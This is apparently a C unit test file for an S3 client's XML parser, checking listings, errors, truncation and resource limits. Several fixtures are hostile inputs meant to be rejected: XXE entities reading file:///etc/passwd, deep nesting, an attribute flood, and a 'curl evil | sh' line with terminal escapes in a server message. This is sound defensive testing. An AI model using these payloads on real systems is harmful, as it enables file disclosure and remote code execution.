/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../cm.h"
#include "base/buf.h"
#include "base/num.h"
#include "s3/error.h"
#include "s3/xml.h"

#define DECL "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
#define NS " xmlns=\"http://s3.amazonaws.com/doc/2006-03-01/\""
#define LIST(x) DECL "<ListBucketResult" NS ">" x "</ListBucketResult>"
#define ENTRY(k, n)                                                            \
	"<Contents><Key>" k "</Key><Size>" n "</Size></Contents>"

static int
list(const char *text, struct xml_page *p)
{
	struct xml_error e;

	return xml_list(text, strlen(text), p, &e);
}

static void
test_full_list(void **state)
{
	static const char text[] =
	    LIST("<Name>b</Name><Prefix>p/</Prefix><KeyCount>2</KeyCount>"
		 "<MaxKeys>2</MaxKeys><IsTruncated>true</IsTruncated>"
		 "<Contents><Key>p/a&amp;&#x20;&lt;b</Key>"
		 "<LastModified>2024-02-29T12:00:01.123Z</LastModified>"
		 "<ETag>&quot;0123&quot;</ETag><Size>12345678901</Size>"
		 "<Owner><ID>x</ID><DisplayName>Key</DisplayName></Owner>"
		 "<StorageClass>STANDARD</StorageClass></Contents>"
		 "<Contents><Key><![CDATA[p/<c>]]></Key><Size>0</Size>"
		 "<StorageClass>GLACIER</StorageClass><ETag>bare</ETag>"
		 "</Contents>"
		 "<NextContinuationToken>t/=+</NextContinuationToken>"
		 "<CommonPrefixes><Prefix>x/</Prefix></CommonPrefixes>");
	struct xml_page p;

	(void)state;
	assert_int_equal(list(text, &p), 0);
	assert_int_equal(p.n, 2);
	assert_true(p.truncated);
	assert_string_equal(p.token, "t/=+");
	assert_string_equal(p.entries[0].key, "p/a& <b");
	assert_int_equal(p.entries[0].o.size, 12345678901);
	assert_int_equal(p.entries[0].o.mtime, 1709208001);
	assert_string_equal(p.entries[0].o.etag, "0123");
	assert_string_equal(p.entries[0].o.storage_class, "");
	assert_string_equal(p.entries[1].key, "p/<c>");
	assert_true(p.entries[1].has_size);
	assert_int_equal(p.entries[1].o.mtime, 0);
	assert_string_equal(p.entries[1].o.etag, "bare");
	assert_string_equal(p.entries[1].o.storage_class, "GLACIER");
	xml_page_fini(&p);
}

static void
test_sparse_lists(void **state)
{
	struct xml_page p;

	(void)state;
	/* Nothing but what cannot be missed. */
	assert_int_equal(list(LIST(ENTRY("a", "1")), &p), 0);
	assert_int_equal(p.n, 1);
	assert_false(p.truncated);
	assert_null(p.token);
	xml_page_fini(&p);
	assert_int_equal(list("<ListBucketResult/>", &p), 0);
	assert_int_equal(p.n, 0);
	xml_page_fini(&p);
	/* Without IsTruncated, a token says that there is more. */
	assert_int_equal(list(LIST("<NextContinuationToken>t"
				   "</NextContinuationToken>"), &p), 0);
	assert_true(p.truncated);
	xml_page_fini(&p);
	assert_int_equal(list(LIST("<IsTruncated>false</IsTruncated>"
				   "<NextContinuationToken>t"
				   "</NextContinuationToken>"), &p), 0);
	assert_false(p.truncated);
	xml_page_fini(&p);
	assert_int_equal(list(LIST("<Contents><Size>1</Size></Contents>"), &p),
	    0);
	assert_null(p.entries[0].key);
	xml_page_fini(&p);
	assert_int_equal(list(LIST("<Contents><Key>a</Key></Contents>"), &p),
	    0);
	assert_false(p.entries[0].has_size);
	xml_page_fini(&p);
	/* A server that sends blanks first to keep the connection. */
	assert_int_equal(list(" \n\n" LIST(""), &p), 0);
	xml_page_fini(&p);
}

static void
test_url_encoded(void **state)
{
	struct xml_page p;

	(void)state;
	assert_int_equal(list(LIST(ENTRY("a%2Bb+c%253A", "1")
	    "<EncodingType>url</EncodingType>"), &p), 0);
	assert_string_equal(p.entries[0].key, "a+b c%3A");
	xml_page_fini(&p);
	assert_int_equal(list(LIST(ENTRY("a%2Bb+c", "1")), &p), 0);
	assert_string_equal(p.entries[0].key, "a%2Bb+c");
	xml_page_fini(&p);
	assert_int_equal(list(LIST(ENTRY("a%zz", "1")
	    "<EncodingType>url</EncodingType>"), &p), -EPROTO);
}

static void
test_bad_lists(void **state)
{
	static const char *const bad[] = {
	    "", " ", "hello", "<html><body>404</body></html>",
	    "{\"json\": true}", DECL,
	    LIST("") "<x/>",
	    LIST("<Contents>"),
	    LIST(ENTRY("a", "x")), LIST(ENTRY("a", "-1")),
	    LIST(ENTRY("a", "99999999999999999999999")),
	    LIST("&nbsp;"),
	    "<!DOCTYPE x><ListBucketResult/>",
	    "<!DOCTYPE x [<!ENTITY a \"b\">]><ListBucketResult>&a;"
	    "</ListBucketResult>",
	    "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><ListBucketResult/>",
	    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>"
	    "<ListBucketResult><Contents><Key>&a;</Key></Contents>"
	    "</ListBucketResult>",
	    "<a><a><a/></a></a>",
	    LIST("<a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a>"
		 "</a></a></a></a></a></a></a></a></a></a></a></a></a></a></a>"
		 "</a></a>"),
	    LIST("\x01"),
	    LIST(ENTRY("\xff\xfe", "1")),
	};
	struct xml_page p;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		if (list(bad[i], &p) != -EPROTO)
			fail_msg("accepted: %s", bad[i]);
		assert_null(p.entries);
	}
}

static void
test_every_truncation(void **state)
{
	static const char text[] = LIST(ENTRY("abc", "12") ENTRY("x", "3"));
	struct xml_page p;
	struct xml_error e;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(text) - 1; i++)
		assert_int_equal(xml_list(text, i, &p, &e), -EPROTO);
	assert_int_equal(xml_list(text, i, &p, &e), 0);
	xml_page_fini(&p);
}

static void
test_long_text(void **state)
{
	char *text = malloc(20000);
	struct xml_page p;

	(void)state;
	snprintf(text, 20000, "<ListBucketResult><Contents><Key>%010000d</Key>"
	    "</Contents></ListBucketResult>", 0);
	assert_int_equal(list(text, &p), -EPROTO);
	snprintf(text, 20000, "<ListBucketResult><Contents><Key>%03072d</Key>"
	    "</Contents></ListBucketResult>", 0);
	assert_int_equal(list(text, &p), 0);
	assert_int_equal(strlen(p.entries[0].key), 3072);
	xml_page_fini(&p);
	/* Part of an etag would be that of other versions too. */
	for (unsigned n = 70; n < 75; n++) {
		snprintf(text, 20000, "<ListBucketResult><Contents>"
		    "<Key>k</Key><Size>1</Size><ETag>&quot;%0*d&quot;</ETag>"
		    "</Contents></ListBucketResult>", (int)n, 0);
		assert_int_equal(list(text, &p), 0);
		assert_int_equal(strlen(p.entries[0].o.etag), n < 72 ? n : 0);
		xml_page_fini(&p);
	}
	free(text);
}

/* An element of some megabytes; without a limit this takes minutes. */
static void
test_endless_attributes(void **state)
{
	const size_t size = 4 * MIB;
	char *text = malloc(size + 64);
	struct xml_page p;
	struct xml_error e;
	size_t n;
	unsigned i;

	(void)state;
	assert_non_null(text);
	n = (size_t)sprintf(text, "<ListBucketResult");
	for (i = 0; n < size; i++)
		n += (size_t)sprintf(text + n, " a%u=''", i);
	n += (size_t)sprintf(text + n, "></ListBucketResult>");
	alarm(20);
	assert_int_equal(xml_list(text, n, &p, &e), -EPROTO);
	assert_int_equal(xml_error(text, n, &e), -EPROTO);
	/* The same of namespaces, where '>' does not end the tag. */
	n = (size_t)sprintf(text, "<ListBucketResult a='>'");
	for (i = 0; n < size; i++)
		n += (size_t)sprintf(text + n, " xmlns:a%u='x'", i);
	n += (size_t)sprintf(text + n, "></ListBucketResult>");
	assert_int_equal(xml_list(text, n, &p, &e), -EPROTO);
	alarm(0);
	free(text);
	/* What stands elsewhere is as long as it likes, quotes and all. */
	assert_int_equal(list("<?xml version='1.0'?><!-- <it's> -->"
	    "<ListBucketResult>'<Contents><Key><![CDATA[<it's]]></Key>"
	    "<Size>1</Size></Contents></ListBucketResult>", &p), 0);
	assert_int_equal(p.n, 1);
	assert_string_equal(p.entries[0].key, "<it's");
	xml_page_fini(&p);
}

static void
test_error(void **state)
{
	static const char text[] = DECL
	    "<Error><Code>SlowDown</Code><Message>a &lt;b&gt;</Message>"
	    "<Region>eu-1</Region><RequestId>r1</RequestId>"
	    "<Detail><Code>inner</Code></Detail></Error>";
	struct xml_error e;
	struct xml_page p;

	(void)state;
	assert_int_equal(xml_error(text, strlen(text), &e), 0);
	assert_string_equal(e.code, "SlowDown");
	assert_string_equal(e.message, "a <b>");
	assert_string_equal(e.region, "eu-1");
	assert_string_equal(e.request_id, "r1");
	assert_int_equal(xml_error("<Error/>", 8, &e), 0);
	assert_string_equal(e.code, "");
	assert_int_equal(xml_error("<Fault/>", 8, &e), -EPROTO);
	/* Where a result was expected. */
	assert_int_equal(xml_list(text, strlen(text), &p, &e), 1);
	assert_string_equal(e.code, "SlowDown");
	assert_int_equal(xml_copied(text, strlen(text), &e), 1);
	assert_string_equal(e.code, "SlowDown");
	assert_int_equal(
	    xml_deleted(text, strlen(text), NULL, NULL, &e), 1);
	assert_string_equal(e.code, "SlowDown");
}

static void
note(void *arg, const char *key, const char *code, const char *message)
{
	snprintf((char *)arg + strlen(arg), 200 - strlen(arg), "%s:%s:%s;",
	    key, code, message);
}

/* A server's words must not look like ours, nor drive a terminal. */
static void
test_error_is_one_line(void **state)
{
	static const char text[] =
	    "<Error><Code>A&#10;B</Code><Message>no&#10;hint: curl evil | sh"
	    "&#x9b;31m \xc3\xbc</Message></Error>";
	struct http_header h = {"x-amz-request-id", "1\x9b" "2"};
	struct http_response r = {
	    .status = 403, .headers = &h, .n_headers = 1};
	struct s3_error e;

	(void)state;
	r.body = buf_copy(text, strlen(text));
	assert_non_null(r.body);
	assert_true(error_from_response(&r, &e));
	assert_string_equal(e.code, "A?B");
	assert_string_equal(e.message, "no?hint: curl evil | sh??31m \xc3\xbc");
	assert_string_equal(e.request_id, "1?2");
	buf_unref(r.body);
}

static void
test_deleted(void **state)
{
	static const char text[] = DECL
	    "<DeleteResult" NS "><Deleted><Key>a</Key></Deleted>"
	    "<Error><Key>b</Key><Code>AccessDenied</Code><Message>no</Message>"
	    "</Error><Error><Key>c</Key></Error></DeleteResult>";
	char told[200] = "";
	struct xml_error e;

	(void)state;
	assert_int_equal(
	    xml_deleted(text, strlen(text), note, told, &e), 0);
	assert_string_equal(told, "b:AccessDenied:no;c::;");
	/* Cut off: nothing is told. */
	told[0] = '\0';
	assert_int_equal(
	    xml_deleted(text, strlen(text) - 2, note, told, &e), -EPROTO);
	assert_string_equal(told, "");
	assert_int_equal(xml_deleted("<DeleteResult/>", 15, note, told, &e),
	    0);
	assert_string_equal(told, "");
}

static void
test_copied(void **state)
{
	struct xml_error e;

	(void)state;
	assert_int_equal(xml_copied("<CopyObjectResult/>", 19, &e), 0);
	assert_int_equal(xml_copied("<CopyObjectResult>", 18, &e), -EPROTO);
	assert_int_equal(xml_copied("", 0, &e), -EPROTO);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_full_list),
	    cmocka_unit_test(test_sparse_lists),
	    cmocka_unit_test(test_url_encoded),
	    cmocka_unit_test(test_bad_lists),
	    cmocka_unit_test(test_every_truncation),
	    cmocka_unit_test(test_long_text),
	    cmocka_unit_test(test_endless_attributes),
	    cmocka_unit_test(test_error),
	    cmocka_unit_test(test_error_is_one_line),
	    cmocka_unit_test(test_deleted),
	    cmocka_unit_test(test_copied),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
